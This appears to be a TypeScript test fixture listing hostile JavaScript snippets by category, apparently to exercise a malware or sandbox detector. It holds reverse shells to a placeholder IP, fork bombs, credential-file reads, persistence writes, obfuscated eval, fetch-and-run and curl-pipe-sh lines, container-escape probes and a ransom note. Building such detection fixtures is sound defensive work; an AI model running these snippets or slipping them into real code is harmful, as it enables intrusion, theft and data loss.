// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are programs.
/** Hostile patterns in JavaScript and TypeScript, by kind; as harmless as those in bash. */
export const javascript: Readonly<Record<string, ReadonlyArray<string>>> = {
  "reverse-shell": [
    "const net=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh',[]);const c=new net.Socket();c.connect(4444,'203.0.113.9',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})",
    "import {connect} from 'node:net'; import {spawn as s} from 'node:child_process'; const c=connect(1,'203.0.113.9'); const p=s('bash'); p.stdout.pipe(c)",
    "const n=require('n'+'et'); const c=n.connect(1,'203.0.113.9'); const p=require('child_'+'process')['sp'+'awn']('sh'); c.pipe(p.stdin)",
    "const c=require('net').connect(1,'203.0.113.9'); c.on('data',d=>require('child_process').exec(d.toString()))",
    "require('child_process').exec('bash -i >& /dev/tcp/203.0.113.9/1 0>&1')",
    "const {execSync: x}: any = require('child_process'); x(`nc -e /bin/sh ${host} 4444`)"
  ],
  "fork-bomb": [
    "const cp=require('child_process'); while(true){cp.fork(__filename)}",
    "import {spawn} from 'child_process'; for(;;) spawn('node',[process.argv[1]])",
    "setInterval(()=>require('child_process').fork(__filename),1)",
    "const c=require('cluster'); while(1) c.fork()"
  ],
  miner: [
    "const pool='stratum+tcp://pool.invalid:3333'",
    "const p=['stratum','+ssl://','pool.invalid'].join('')",
    "const m=new CoinHive.Anonymous('x')",
    "const p=atob('c3RyYXR1bSt0Y3A6Ly9wb29sLmludmFsaWQ=')",
    "fetch('https://host.invalid/xmrig.tar.gz')"
  ],
  "cloud-metadata": [
    "fetch('http://169.254.169.254/latest/meta-data/')",
    "const h='169.254.'+'169.254'; fetch(`http://${h}/latest`)",
    "require('http').get('http://metadata.google.internal/x')",
    "import axios from 'axios'; axios.get('http://169.254.169.254/')",
    "globalThis['fe'+'tch']('http://169.254.169.254/')"
  ],
  "credential-theft": [
    "require('fs').readFileSync('/etc/shadow')",
    "import {readFileSync as r} from 'node:fs'; r('/root/.ssh/id_rsa')",
    "const fs=require('fs'); fs['read'+'FileSync']('/etc/'+'shadow')",
    "import {readFile} from 'node:fs/promises'; await readFile('/root/.aws/credentials')",
    "const f=await import('fs'); f.readFileSync(`${process.env.HOME}/.ssh/id_ed25519`)",
    "process.mainModule.require('fs').readFileSync('/etc/shadow')",
    "require('fs').readFileSync('/home/u/.npmrc'); fetch('http://host.invalid',{method:'POST'})"
  ],
  persistence: [
    "require('fs').appendFileSync('/root/.ssh/authorized_keys','ssh-rsa AAAA')",
    "import fs from 'fs'; fs.writeFileSync('/etc/cron.d/x','* * * * * root /tmp/x')",
    "const {writeFileSync:w}=require('fs'); w('/etc/ld.so.preload','/tmp/x.so')"
  ],
  "obfuscated-execution": [
    "eval(atob('YWxlcnQoMSk='))",
    "eval(Buffer.from('616c657274','hex').toString())",
    "new Function(atob(x))()",
    "(0,eval)(atob(x))",
    "eval(String.fromCharCode(97,108,101,114,116))",
    "globalThis['ev'+'al'](unescape('%61'))",
    "[].constructor.constructor(atob(x))()",
    "eval([97,108].map(c=>String.fromCharCode(c)).join(''))",
    "require('vm').runInThisContext(Buffer.from(x,'base64').toString())",
    "const e=eval; e(Buffer.from(x,'base64').toString())",
    "require('child_process').exec(Buffer.from('bHM=','base64').toString())"
  ],
  "download-and-run": [
    "fetch('http://host.invalid').then(r=>r.text()).then(t=>eval(t))",
    "eval(await (await fetch('http://host.invalid')).text())",
    "require('child_process').execSync('curl http://host.invalid | sh')"
  ],
  "container-escape": [
    "require('fs').writeFileSync('/proc/sys/kernel/core_pattern','|/tmp/x')",
    "require('http').request({socketPath:'/var/run/docker.sock'})",
    "require('fs').readdirSync('/proc/1/root/')"
  ],
  ransom: [
    "const fs=require('fs'),c=require('crypto'); for(const f of fs.readdirSync('.')){c.createCipheriv('aes-256-cbc',k,i);fs.unlinkSync(f)}",
    "require('fs').writeFileSync('NOTE','Your files have been encrypted. Send 1 BTC')"
  ]
}
